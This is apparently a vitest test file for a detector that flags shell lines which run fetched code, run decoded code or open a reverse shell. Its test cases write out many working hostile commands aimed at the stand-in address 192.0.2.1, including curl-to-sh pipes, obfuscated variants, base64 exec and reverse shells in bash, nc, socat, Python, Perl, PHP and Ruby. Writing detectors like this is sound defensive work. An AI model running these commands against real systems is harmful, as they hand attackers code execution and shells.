import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { givesShellAway, runsDecodedCode, runsFetchedCode } from './remote-code.ts'

describe('runsFetchedCode', () => {
  it.each([
    'curl -fsSL https://example.com/a | sh',
    'curl -s http://192.0.2.1/a | sudo bash -s -- -x',
    'wget -qO- http://192.0.2.1/a|bash',
    'bash <(curl -s http://192.0.2.1/a)',
    'sh -c "$(wget -qO- https://example.com/a)"',
    'eval "$(curl -s http://192.0.2.1/a)"',
    '(curl -s http://192.0.2.1/a || wget -qO- http://192.0.2.1/a) | sh',
    'curl http://192.0.2.1/a | base64 -d | python3 -',
    `c''u"r"l 192.0.2.1/a | s\\h`,
    `$'\\x63url' 192.0.2.1/a | sh`,
    'curl -so /tmp/a http://192.0.2.1/a; chmod +x /tmp/a; /tmp/a',
    'wget -O /tmp/a http://192.0.2.1/a && sh /tmp/a',
    'cd /tmp; wget http://192.0.2.1/b.sh; sh b.sh',
    'cd /tmp && curl -O http://192.0.2.1/b && ./b',
    `python3 -c 'import urllib.request as u; exec(u.urlopen("http://192.0.2.1/a").read())'`,
  ])('is true of %s', line => {
    expect(runsFetchedCode(line)).toBe(true)
  })

  it.each([
    'curl -fsS https://example.com/health | grep -q ok',
    'curl https://example.com/a | sh -c "tar xz"',
    'curl -o /tmp/a.tar.gz https://example.com/a.tar.gz && tar xzf /tmp/a.tar.gz',
    'wget -q https://example.com/list.txt -O /var/lib/app/list.txt && /usr/local/bin/import /var/lib/app/list.txt',
    'wget -qO /dev/null https://example.com/cron.php',
    'curl https://example.com/data.json | python3 /opt/app/report.py',
    'echo "curl http://192.0.2.1/a | sh"',
    `python3 -c 'import urllib.request; print(urllib.request.urlopen("http://127.0.0.1").status)'`,
    'bash /opt/backup.sh',
    '',
  ])('is false of %s', line => {
    expect(runsFetchedCode(line)).toBe(false)
  })
})

describe('runsDecodedCode', () => {
  it.each([
    'echo aWQK | base64 -d | sh',
    'bash -c "$(echo aWQK | base64 --decode)"',
    'xxd -r -p <<< 6964 | bash',
    `python3 -c 'import base64; exec(base64.b64decode("aWQK"))'`,
    `perl -MMIME::Base64 -e 'eval decode_base64("aWQK")'`,
  ])('is true of %s', line => {
    expect(runsDecodedCode(line)).toBe(true)
  })

  it.each([
    'echo aWQK | base64 -d > /tmp/a',
    'kubectl get secret x -o json | jq -r .data.a | base64 -d',
    'openssl rand -hex 16',
    `python3 -c 'import base64; print(base64.b64decode("aWQK"))'`,
  ])('is false of %s', line => {
    expect(runsDecodedCode(line)).toBe(false)
  })
})

describe('givesShellAway', () => {
  it.each([
    'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1',
    'bash -c "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"',
    'exec 5<>/dev/tcp/192.0.2.1/4444; cat <&5 | while read l; do $l 2>&5 >&5; done',
    '0<&196;exec 196<>/dev/tcp/192.0.2.1/4444; sh <&196 >&196 2>&196',
    'sh -i 5<> /dev/tcp/192.0.2.1/4444 0<&5 1>&5 2>&5',
    'nc -e /bin/sh 192.0.2.1 4444',
    `n''c -e /bin/sh 192.0.2.1 4444`,
    '/bin/nc.traditional -e /bin/sh 192.0.2.1 4444',
    'ncat 192.0.2.1 4444 --sh-exec "/bin/bash"',
    'nc -lvnp 4444 -e /bin/bash',
    'busybox nc 192.0.2.1 4444 -e sh',
    'socat TCP:192.0.2.1:4444 EXEC:/bin/bash,pty,stderr,setsid',
    "socat exec:'bash -li',pty tcp:192.0.2.1:4444",
    'rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 192.0.2.1 4444 > /tmp/f',
    'mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 192.0.2.1:443 > /tmp/s',
    'telnet 192.0.2.1 4444 | /bin/bash | telnet 192.0.2.1 4445',
    `python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("192.0.2.1",4444));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")'`,
    `perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);open(STDIN,">&S");exec("/bin/sh -i");'`,
    `php -r '$s=fsockopen("192.0.2.1",4444);exec("/bin/sh -i <&3 >&3 2>&3");'`,
    `ruby -rsocket -e 'f=TCPSocket.open("192.0.2.1",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d",f,f)'`,
  ])('is true of %s', line => {
    expect(givesShellAway(line)).toBe(true)
  })

  it.each([
    'timeout 1 bash -c "</dev/tcp/db.example.com/5432"',
    `bash -c 'exec 3<>/dev/tcp/127.0.0.1/9000; echo -e "GET /health/ready HTTP/1.1\\r\\n" >&3; cat <&3 | grep -q UP'`,
    'exec 3<>/dev/tcp/192.0.2.1/80; cat <&3; exec 3<&-; exec 3>&-',
    'until (echo > /dev/tcp/localhost/8080) 2>/dev/null; do sleep 1; done',
    'nc -z db.example.com 5432',
    'nc -lvnp 4444',
    'tar c /srv | nc backup.example.com 9000',
    'socat TCP-LISTEN:8080,fork TCP:localhost:80',
    'mkfifo /tmp/pipe && gzip < /tmp/pipe > /srv/a.gz',
    'openssl s_client -connect example.com:443 < /dev/null | openssl x509 -noout -dates',
    `python3 -c 'import socket; print(socket.gethostname())'`,
    'echo "nc -e /bin/sh 192.0.2.1 4444"',
    'ssh ada@example.com bash -i',
    '',
  ])('is false of %s', line => {
    expect(givesShellAway(line)).toBe(false)
  })

  it('never throws, and takes its time from the length of the text only', () => {
    fc.assert(
      fc.property(fc.string(), line => {
        runsFetchedCode(line)
        runsDecodedCode(line)
        givesShellAway(line)
      }),
    )
    for (const piece of [
      'curl ',
      'nc -e sh;',
      '/dev/tcp/',
      '<&',
      'a|sh|',
      '$(curl ',
      "python -c 'socket exec ",
      'exec:',
    ]) {
      const line = piece.repeat(Math.ceil(10_000 / piece.length))
      let least = Number.POSITIVE_INFINITY
      for (let run = 0; run < 5; run += 1) {
        const start = performance.now()
        givesShellAway(`${line}!${run}`)
        runsFetchedCode(`${line}!${run}`)
        least = Math.min(least, performance.now() - start)
      }
      expect(least, piece).toBeLessThan(25)
    }
  })
})
